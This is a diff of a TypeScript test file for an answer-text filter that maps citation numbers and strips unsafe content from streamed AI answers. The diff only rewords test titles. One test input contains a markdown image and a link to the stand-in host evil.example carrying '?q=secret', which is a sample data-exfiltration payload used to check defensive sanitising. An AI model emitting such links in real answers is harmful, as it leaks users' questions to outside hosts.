@@ -1,7 +1,7 @@
 import test from 'ava';
 import { createAnswerText } from '../../../../core/domain/ask/answer-text.ts';
 
-/** Returns the shown text, cut into pieces of any size. */
+/** Returns the displayed text of an answer that arrives in pieces of any size. */
 function read(whole: string, size: number, count = 9) {
   const filter = createAnswerText(count);
   const pieces = whole.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
@@ -11,7 +11,7 @@ function read(whole: string, size: number, count = 9) {
 
 const SIZES = [1, 2, 3, 7, 1000];
 
-test('Numbers count the sources that the first line names, whatever pieces they come in', t => {
+test('Citation numbers refer to the sources in the first line, however the answer is split', t => {
   const answer = 'SOURCES: 3, 7, 12\nAt seven [7], by train [3][9]. Twice [3, 7]; array[i] stays.';
   for (const size of SIZES)
     t.deepEqual(
@@ -28,7 +28,7 @@ test('Without a first line of sources nothing is shown', t => {
     for (const size of SIZES) t.deepEqual(read(none, size, 9).header, []);
 });
 
-test('Pictures, links and unseen characters are taken out: they would tell others what was asked', t => {
+test('Images, links and invisible characters are removed, as they could leak the question', t => {
   const answer =
     'SOURCES: 1\nHi ![x](https://evil.example/?q=secret) and [here](https://evil.example) \u202e!\u0007';
   for (const size of SIZES) {
@@ -38,7 +38,7 @@ test('Pictures, links and unseen characters are taken out: they would tell other
   }
 });
 
-test('An answer that never ends a bracket is shown all the same', t => {
+test('An answer with an unclosed bracket is still shown', t => {
   const rest = `[${'1'.repeat(500)}`;
   for (const size of SIZES) t.is(read(`SOURCES: 1\n${rest}`, size).text, rest);
 });
